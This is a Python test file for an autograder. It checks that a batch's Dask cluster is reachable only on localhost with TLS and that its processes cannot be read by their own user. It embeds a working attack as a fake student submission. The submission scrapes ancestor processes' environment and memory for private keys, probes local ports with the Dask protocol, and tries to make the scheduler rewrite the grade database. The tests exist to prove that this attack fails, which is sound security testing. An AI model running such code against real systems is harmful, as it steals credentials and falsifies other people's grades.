"""Issue 21: the batch's Dask cluster is the instructor's alone.

A local batch (:func:`autograder.batch.cluster.local_cluster`) listens on 127.0.0.1 only, over TLS with
credentials made for that batch, and its processes are non-dumpable. Checked from outside, as
another process of the instructor's own user would try:

* a cluster started as the batch starts it: every address and every listening socket of the
  batch and its workers is 127.0.0.1; its HTTP servers serve nothing; ``tcp://``, TLS without a
  certificate and TLS with another batch's certificate are all refused; and the batch's and its
  workers' ``/proc/<pid>/environ``, ``mem`` and ``fd`` cannot be read (while a dumpable process
  of the same user can be read: the check can fail);
* a class of two, graded by ``autograder batch``, with plain children and with bubblewrap, where
  one submission's module-level code (run in the grading child at import) finds the listening
  ports in ``/proc/net/tcp``, speaks Dask to each of them over ``tcp://`` and ``tls://``, and reads
  its ancestors' environment, memory and descriptors; had any port answered, it would have made
  the batch process rewrite the store (its own 100, the other student's 0). The store holds the
  honest scores, and, with plain children, the attacker's own notes say what it got: nothing.

Same-user isolation cannot hold against privilege (``CAP_SYS_PTRACE`` reads any process), so as
root the batch and the attackers run without capabilities (bubblewrap, which needs them here,
drops them for its child itself), and, where one can be made, in a network namespace of their
own, which also hides the ports of other programs on a shared test machine (elsewhere an
unrelated Dask scheduler without TLS on this machine would answer the attacker, and fail it).
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import ssl
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

import pytest

from autograder.exercises import known_bad
from autograder.wire.results import ExerciseResult
from autograder.batch.store import ResultStore
from conftest import EXERCISES, ROOT, SOLUTIONS
from tests.adversarial.lift import lift_env

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"),
                                reason="non-dumpable processes and /proc are Linux's")

AS_ROOT = os.geteuid() == 0
BATCH_SEED = 2121
MUTANT = "floor_warps"
#: Root's processes without any capability: the same user as the batch, no privilege.
NO_CAPS = ["setpriv", "--bounding-set=-all", "--inh-caps=-all", "--ambient-caps=-all", "--"]



def _can(cmd: list[str]) -> bool:
    try:
        return subprocess.run(cmd, capture_output=True, timeout=30).returncode == 0
    except (OSError, subprocess.TimeoutExpired):
        return False


#: As root: a network namespace of our own can be made here (not in every container).
NETNS = AS_ROOT and all(shutil.which(t) for t in ("unshare", "nsenter", "ip")) and _can(
    ["unshare", "--net", "--", "ip", "link", "set", "lo", "up"])
pytestmark = [pytestmark, pytest.mark.skipif(
    AS_ROOT and not _can([*NO_CAPS, "true"]),
    reason="as root, the tests need setpriv (util-linux) to run without capabilities")]


def _isolated(cmd: list[str], drop_caps: bool = True) -> list[str]:
    """``cmd`` as an ordinary process of this user: as root, without capabilities (with
    ``drop_caps``) and, where it can be made, in a new network namespace with its loopback
    up; otherwise unchanged."""
    if not AS_ROOT:
        return cmd
    cmd = [*(NO_CAPS if drop_caps else []), *cmd]
    if not NETNS:
        return cmd
    return ["unshare", "--net", "--", "sh", "-c", 'ip link set lo up && exec "$@"', "sh", *cmd]


def _in_namespace(proc: subprocess.Popen, cmd: list[str]) -> list[str]:
    """``cmd`` where it reaches ``proc``'s network namespace (:func:`_isolated`), without
    capabilities."""
    if not AS_ROOT:
        return cmd
    if not NETNS:
        return [*NO_CAPS, *cmd]
    return ["nsenter", f"--net=/proc/{proc.pid}/ns/net", "--", *NO_CAPS, *cmd]


def _bwrap_reason() -> str | None:
    if shutil.which("bwrap") is None:
        return "bubblewrap is not installed"
    probe = subprocess.run(["bwrap", "--ro-bind", "/", "/", "--unshare-net", "true"],
                           capture_output=True, text=True)
    return None if probe.returncode == 0 else f"bwrap cannot run here: {probe.stderr.strip()}"


@pytest.fixture(scope="module")
def base(tmp_path_factory):
    return tmp_path_factory.mktemp("scheduler")


def _env(**extra) -> dict:
    return dict(os.environ, PYTHONPATH=str(ROOT), **extra)


# -- a cluster started as the batch starts it -------------------------------------------------

HOLDER = textwrap.dedent('''
    import json, os, sys

    def listening():
        """Local addresses of this process's listening TCP sockets."""
        inodes = set()
        for fd in os.listdir("/proc/self/fd"):
            try:
                target = os.readlink(f"/proc/self/fd/{fd}")
            except OSError:
                continue
            if target.startswith("socket:["):
                inodes.add(target[8:-1])
        found = []
        for table in ("/proc/net/tcp", "/proc/net/tcp6"):
            for line in open(table).read().splitlines()[1:]:
                f = line.split()
                if f[3] == "0A" and f[9] in inodes:
                    found.append(f[1])
        return found

    def main():
        from distributed import Client
        from autograder.batch.cluster import local_cluster

        cluster = local_cluster("sim", 2)
        client = Client(cluster)
        info = client.scheduler_info()
        print(json.dumps({
            "pid": os.getpid(), "scheduler": client.scheduler.address,
            "http": info["services"].get("dashboard"),
            "workers": sorted(info["workers"]),
            "nannies": sorted(w["nanny"] for w in info["workers"].values()),
            "worker_pids": sorted(client.run(os.getpid).values()),
            "listening": {"batch": listening(),
                          **{a: s for a, s in client.run(listening).items()}},
        }), flush=True)
        sys.stdin.read()
        client.close()
        cluster.close()

    if __name__ == "__main__":
        main()
''')

READER = textwrap.dedent('''
    import json, os, subprocess, sys

    def peek(pid):
        out = {}
        for what in ("environ", "mem"):  # the kernel checks access when the file is opened
            try:
                with open(f"/proc/{pid}/{what}", "rb"):
                    pass
                out[what] = "read"
            except OSError as exc:
                out[what] = type(exc).__name__
        try:
            os.readlink(f"/proc/{pid}/fd/0")
            out["fd"] = "read"
        except OSError as exc:
            out["fd"] = type(exc).__name__
        return out

    sleeper = subprocess.Popen(["sleep", "30"])
    try:
        print(json.dumps({"control": peek(sleeper.pid),
                          **{p: peek(p) for p in sys.argv[1:]}}))
    finally:
        sleeper.kill()
''')


@pytest.fixture(scope="module")
def local(base):
    """(the batch-like process, what it printed: addresses, pids, listening sockets)."""
    script = base / "holder.py"
    script.write_text(HOLDER)
    proc = subprocess.Popen(_isolated([sys.executable, str(script)]), cwd=base,
                            env=_env(), stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    line = proc.stdout.readline()
    if not line:
        proc.kill()
        pytest.fail("the cluster did not start:\n" + proc.communicate()[1][-3000:])
    try:
        yield proc, json.loads(line)
    finally:
        proc.stdin.close()
        try:
            proc.wait(timeout=60)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


def test_a_local_cluster_listens_on_localhost_only_and_serves_no_http(local):
    proc, info = local
    addresses = [info["scheduler"], *info["workers"], *info["nannies"]]
    assert len(addresses) == 5
    for address in addresses:
        assert address.startswith("tls://127.0.0.1:"), address
    loopback = "0100007F:"  # 127.0.0.1 as /proc/net/tcp writes it
    assert set(info["listening"]) == {"batch", *info["workers"]}
    for who, sockets in info["listening"].items():
        assert sockets, who
        for local_address in sockets:
            assert local_address.startswith(loopback), f"{who} listens on {local_address}"
    probe = textwrap.dedent(f'''
        import urllib.request, urllib.error
        for path in ("/info/main/workers.html", "/json/identity.json", "/health", "/status"):
            try:
                urllib.request.urlopen("http://127.0.0.1:{info["http"]}" + path, timeout=10)
                print(path, "served")
            except urllib.error.HTTPError as exc:
                print(path, exc.code)
    ''')
    done = subprocess.run(_in_namespace(proc, [sys.executable, "-c", probe]),
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "served" not in done.stdout and done.stdout.count("404") == 4, done.stdout


def test_a_client_without_the_batchs_credentials_is_refused(local, base):
    proc, info = local
    port = int(info["scheduler"].rsplit(":", 1)[1])
    script = textwrap.dedent(f'''
        import socket, ssl
        from distributed import Client
        from autograder.batch.tls import batch_security

        def attempt(label, fn):
            try:
                fn()
                print(label, "CONNECTED")
            except Exception as exc:
                print(label, "refused", type(exc).__name__)

        attempt("tcp", lambda: Client("tcp://127.0.0.1:{port}", timeout=5))
        attempt("tls-other-batch", lambda: Client("tls://127.0.0.1:{port}", timeout=5,
                                                   security=batch_security()))

        def no_certificate():
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            with socket.create_connection(("127.0.0.1", {port}), timeout=5) as raw:
                with ctx.wrap_socket(raw) as tls:
                    tls.sendall(b"x" * 64)
                    if not tls.recv(1):
                        raise ConnectionError("closed")
        attempt("tls-no-certificate", no_certificate)
        for worker in {info["workers"] + info["nannies"]!r}:
            attempt("tcp-" + worker, lambda: Client(worker.replace("tls", "tcp"), timeout=5))
    ''')
    done = subprocess.run(_in_namespace(proc, [sys.executable, "-c", script]), cwd=base,
                          env=_env(), capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-3000:]
    lines = done.stdout.splitlines()
    assert len(lines) == 7, done.stdout + done.stderr[-2000:]
    assert all(" refused " in line for line in lines), done.stdout


def test_the_batch_and_its_workers_are_unreadable_to_their_own_user(local, base):
    proc, info = local
    script = base / "reader.py"
    script.write_text(READER)
    pids = [info["pid"], *info["worker_pids"]]
    done = subprocess.run(_isolated([sys.executable, str(script), *map(str, pids)]),
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr[-2000:]
    seen = json.loads(done.stdout)
    assert seen.pop("control") == {"environ": "read", "mem": "read", "fd": "read"}
    assert seen == {str(p): {"environ": "PermissionError", "mem": "PermissionError",
                             "fd": "PermissionError"} for p in pids}


# -- a submission that attacks the batch that grades it --------------------------------------

ATTACK = '''

# --- the attack, run in the grading child when the grader first calls warps_per_block ---
def _attack(report_path, mark):
    import asyncio, json, os, ssl

    notes = {"pid": os.getpid(), "ports": {}, "ancestors": {}}
    key_mark = b"PRIVATE " + b"KEY-----"  # never whole in this source, which the grader holds

    def ppid(pid):
        return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])

    pid = os.getpid()
    while len(notes["ancestors"]) < 6:
        pid = ppid(pid)
        if pid <= 1:
            break
        seen = {"cmdline": open(f"/proc/{pid}/cmdline", "rb").read()
                .replace(b"\\0", b" ").decode(errors="replace")[:300]}
        try:
            env = open(f"/proc/{pid}/environ", "rb").read()
            seen["environ"] = "read"
            seen["environ_secrets"] = [v.decode(errors="replace")[:80] for v in env.split(b"\\0")
                                       if key_mark in v or v.startswith(b"DASK_")]
            seen["pythonpath"] = [v.decode(errors="replace") for v in env.split(b"\\0")
                                  if v.startswith(b"PYTHONPATH=")]
        except OSError as exc:
            seen["environ"] = type(exc).__name__
        try:
            os.readlink(f"/proc/{pid}/fd/0")
            seen["fd"] = "read"
        except OSError as exc:
            seen["fd"] = type(exc).__name__
        try:
            found = False
            with open(f"/proc/{pid}/mem", "rb") as mem:
                for line in open(f"/proc/{pid}/maps"):
                    fields = line.split()
                    if "rw" not in fields[1] or len(fields) > 5 and fields[5].startswith("/dev"):
                        continue
                    start, end = (int(x, 16) for x in fields[0].split("-"))
                    if end - start > 1 << 28:
                        continue
                    try:
                        mem.seek(start)
                        if key_mark in mem.read(end - start):
                            found = True
                    except OSError:
                        continue
            seen["mem"] = "key found" if found else "read"
        except OSError as exc:
            seen["mem"] = type(exc).__name__
        notes["ancestors"][str(pid)] = seen

    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            rows = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            f = row.split()
            if f[3] == "0A":
                ports.add(int(f[1].rsplit(":", 1)[1], 16))

    def rewrite(mark):  # what an answering scheduler would run, in the batch process
        import sqlite3, threading, time
        args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
        db = args[args.index(b"--db") + 1].decode() if b"--db" in args else ""
        if mark not in db:
            return "not the batch under test"
        def loop():
            for _ in range(600):
                with sqlite3.connect(db) as con:
                    con.execute("UPDATE results SET score = CASE WHEN student = 'mallory' "
                                "THEN 100 ELSE 0 END")
                time.sleep(0.1)
        threading.Thread(target=loop, daemon=True).start()
        return "rewriting " + db

    async def speak(port):
        from distributed.comm import connect
        plain = ssl.create_default_context()
        plain.check_hostname = False
        plain.verify_mode = ssl.CERT_NONE
        out = {}

        async def one(scheme, args):
            comm = await connect(f"{scheme}://127.0.0.1:{port}", timeout=3, **args)
            await comm.write({"op": "identity", "reply": True})
            reply = await comm.read()
            out[scheme] = "ANSWERED " + str(reply)[:300]
            if reply.get("type") == "Scheduler":
                from distributed import Client
                async with Client(f"{scheme}://127.0.0.1:{port}", asynchronous=True,
                                  timeout=5) as client:
                    out[scheme] += " / " + str(await client.run_on_scheduler(rewrite, mark))

        for scheme, args in (("tcp", {}), ("tls", {"ssl_context": plain})):
            try:
                await asyncio.wait_for(one(scheme, args), 8)
            except (Exception, asyncio.TimeoutError) as exc:
                out.setdefault(scheme, "refused " + type(exc).__name__)
        return port, out

    async def all_ports():
        return await asyncio.gather(*(speak(p) for p in sorted(ports)[:64]))

    try:
        notes["ports"] = {str(p): out for p, out in asyncio.run(all_ports())}
    except Exception as exc:
        notes["ports_error"] = repr(exc)
    with open(report_path, "a") as f:
        f.write(json.dumps(notes) + "\\n")


def _attack_once():
    import os
    if os.environ.get("KG_ATTACKED") is None:
        os.environ["KG_ATTACKED"] = "1"
        try:
            _attack(REPORT_PATH, MARK)
        except Exception:
            pass
'''
HONEST = "def warps_per_block(threads_per_block, warp_size=32):\n"


def _make_class(base: Path, mode: str) -> tuple[Path, dict[str, Path], Path]:
    """(the class folder, key → file, the attacker's report file) for sandbox ``mode``."""
    root = base / f"class-{mode}" / "submitted"
    # A plain child may write only its scratch folder and /dev (autograder.sandbox.landlock), so
    # the attacker keeps its notes in /dev/shm, where one exists: the attack still runs and says
    # what it got. Inside bubblewrap /dev/shm is the sandbox's own, and nothing comes out.
    shm = Path("/dev/shm")
    where = shm if shm.is_dir() and os.access(shm, os.W_OK) else base
    report = where / f"kg-attack-{base.name}-{mode}.jsonl"
    report.unlink(missing_ok=True)
    mutant = (EXERCISES / "occupancy" / "mutants" / f"{MUTANT}.py").read_text()
    assert HONEST in mutant
    # The grader runs only a submission's imports, constants and definitions at its top level:
    # the attack runs when the grader first calls the student's function.
    attack = (mutant.replace(HONEST, HONEST + "    _attack_once()\n")
              + f"\nREPORT_PATH = {str(report)!r}\nMARK = {base.name!r}\n" + ATTACK)
    files = {"mallory": attack,
             "victor": (SOLUTIONS / "occupancy.py").read_text()}
    out = {}
    for student, text in files.items():
        folder = root / student / "03_occupancy"
        folder.mkdir(parents=True)
        (folder / "occupancy.py").write_text(text)
        out[f"{student}/03_occupancy"] = folder / "occupancy.py"
    return root, out, report


def _graded(base: Path, mode: str) -> tuple[dict, dict[str, Path], list[dict], int]:
    """Grade the attacked class with ``KERNELGRADE_SANDBOX=mode``; (key → stored row, key →
    file, the attacker's notes, the batch's pid)."""
    root, files, report = _make_class(base, mode)
    db = base / f"results-{mode}.sqlite"
    proc = subprocess.Popen(
        _isolated([sys.executable, "-m", "autograder.cli", "batch", str(root), "--db", str(db),
                  "--device", "sim", "--workers", "2", "--seed", str(BATCH_SEED)],
                 drop_caps=mode != "require"),
        cwd=ROOT, env=lift_env(_env(KERNELGRADE_SANDBOX=mode)), stdout=subprocess.PIPE,
        stderr=subprocess.PIPE, text=True)
    _, err = proc.communicate(timeout=600)
    assert proc.returncode == 0, err[-3000:]
    time.sleep(1.0)  # a rewriting thread, had one started, would have had its turn
    store = ResultStore(db)
    try:
        rows = {r["key"]: r for r in store.rows()}
    finally:
        store.close()
    notes = ([json.loads(line) for line in report.read_text().splitlines()]
             if report.exists() else [])
    report.unlink(missing_ok=True)
    return rows, files, notes, proc.pid


def _assert_honest(rows: dict, files: dict[str, Path]) -> None:
    assert sorted(rows) == sorted(files)
    victor = ExerciseResult.from_dict(rows["victor/03_occupancy"]["result"])
    mallory = ExerciseResult.from_dict(rows["mallory/03_occupancy"]["result"])
    assert not known_bad.full_marks_problems(victor)
    assert victor.score > 0 and rows["victor/03_occupancy"]["score"] == victor.score
    assert not known_bad.unmet(files["mallory/03_occupancy"], mallory)  # the mutant's verdict
    assert rows["mallory/03_occupancy"]["score"] == mallory.score < victor.score


@pytest.fixture(scope="module")
def plain(base):
    return _graded(base, "off")


@pytest.mark.slow
def test_with_plain_children_an_attacking_submission_gets_nothing(plain):
    rows, files, notes, batch_pid = plain
    _assert_honest(rows, files)
    assert notes, "the attack did not run (no notes)"
    for note in notes:
        assert "ports_error" not in note, note
        assert len(note["ports"]) >= 5, note["ports"]  # scheduler, 2 workers, 2 nannies
        answered = {p: o for p, o in note["ports"].items()
                    if any(v.startswith("ANSWERED") for v in o.values())}
        assert not answered, answered
        ancestors = note["ancestors"]
        reapers = [s for s in ancestors.values() if "reaper.py" in s["cmdline"]]
        assert len(reapers) == 1, ancestors
        reaper = reapers[0]
        # On the simulator each case runs in a fork of the harness (autograder.child.apart): the
        # harness that forked it is non-dumpable, and the fork reads none of it.
        for harness in (s for s in ancestors.values() if "autograder.child.harness" in s["cmdline"]):
            assert (harness["environ"], harness["mem"], harness["fd"]) == \
                ("PermissionError",) * 3, harness
        # The reaper is an ordinary process: readable, and nothing to find; or, where the child
        # runs under Landlock (autograder.sandbox.landlock), which keeps ptrace-mode access to
        # its own domain, not readable at all.
        if reaper["environ"] == "read":
            assert reaper["environ_secrets"] == []
            # No folder of Dask's, which the child could write, is on the children's import path.
            assert "dask" not in " ".join(reaper["pythonpath"]), reaper["pythonpath"]
            assert reaper["mem"] == "read" and reaper["fd"] == "read"
        else:
            assert (reaper["environ"], reaper["mem"], reaper["fd"]) == ("PermissionError",) * 3
        worker = [s for s in ancestors.values() if "spawn_main" in s["cmdline"]]
        assert len(worker) == 1, ancestors
        batch = ancestors.get(str(batch_pid))
        assert batch is not None, (batch_pid, ancestors)
        for seen in (worker[0], batch):
            assert (seen["environ"], seen["mem"], seen["fd"]) == \
                ("PermissionError",) * 3, seen


_NO_BWRAP = _bwrap_reason()


@pytest.mark.slow
@pytest.mark.skipif(_NO_BWRAP is not None, reason=str(_NO_BWRAP))
def test_in_bubblewrap_an_attacking_submission_gets_nothing(base):
    rows, files, notes, _ = _graded(base, "require")
    _assert_honest(rows, files)
    assert notes == []  # it could not even write its notes outside the sandbox


# -- a remote scheduler ----------------------------------------------------------------------

def test_a_scheduler_without_tls_is_refused_unless_asked_for(tmp_path):
    from autograder.batch.cluster import client_security, connect

    file = tmp_path / "scheduler.json"
    file.write_text(json.dumps({"address": "tcp://127.0.0.1:9"}))
    for scheduler in ("tcp://127.0.0.1:9", "127.0.0.1:9", str(file)):
        with pytest.raises(ValueError, match="is not TLS: anyone who can reach it"):
            connect(scheduler)
    with pytest.raises(ValueError, match="is TLS, but no client certificate is given"):
        connect("tls://127.0.0.1:9", client_security())
    with pytest.raises(ValueError, match="missing: --tls-key"):
        client_security(str(file), str(file))
    with pytest.raises(ValueError, match="--tls-key .*nowhere.pem: no such readable file"):
        client_security(str(file), str(file), str(tmp_path / "nowhere.pem"))


def test_the_command_line_refuses_a_plain_scheduler_with_exit_2(tmp_path):
    (tmp_path / "a.py").write_text("x = 1\n")
    done = subprocess.run(
        [sys.executable, "-m", "autograder.cli", "batch", str(tmp_path), "-e", "occupancy",
         "--db", str(tmp_path / "r.sqlite"), "--device", "sim", "--scheduler",
         "tcp://127.0.0.1:9"], cwd=ROOT, env=_env(), capture_output=True, text=True,
        timeout=120)
    assert done.returncode == 2, done.stderr[-2000:]
    text = " ".join(done.stderr.split())
    assert "--scheduler tcp://127.0.0.1:9 is not TLS" in text and "--insecure-scheduler" in text
    assert "Traceback" not in done.stderr
